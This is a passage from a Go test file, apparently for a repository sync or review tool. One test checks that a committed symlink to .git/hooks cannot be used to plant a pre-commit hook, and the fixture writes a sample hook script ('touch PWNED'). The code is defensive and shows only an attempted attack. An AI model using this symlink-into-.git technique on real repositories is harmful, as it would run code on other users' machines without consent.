	out, errOut, code := runLimited(t, s.dir, nil, "", 20*time.Second, "status")
	if code != 0 || !strings.Contains(errOut, "cannot be completed now") || !strings.Contains(out, ids[1][:8]) {
		t.Fatalf("status: exit %d %s %s", code, out, errOut)
	}
	if _, err := os.Lstat(plan); err != nil || s.Read("a.txt") != before {
		t.Fatal("the plan or the file was lost")
	}
}

// A committed symlink into .git/ does not take a decision there: a planted delete of
// hooks/pre-commit, where hooks links to .git/hooks, is refused even once adopted.
func TestSymlinkIntoGitIsNotFollowedByADecision(t *testing.T) {
	t.Parallel()
	r := newRepo(t)
	if err := os.Symlink(".git/hooks", r.Path("hooks")); err != nil {
		t.Fatal(err)
	}
	id := r.deleted("conv_1_planted", "hooks/pre-commit", "#!/bin/sh\ntouch PWNED\n", "0755")
	r.commit()
	r.adopt()
	r.refused([]string{"reject", id}, "hooks/pre-commit", "through a symlink", ".git/")
	r.refused([]string{"reject", "--conv", "conv_1_planted"}, "through a symlink")
	r.untouched()
	if _, err := os.Lstat(r.Path(".git/hooks/pre-commit")); err == nil {
		t.Fatal("the hook was written")
	}
}
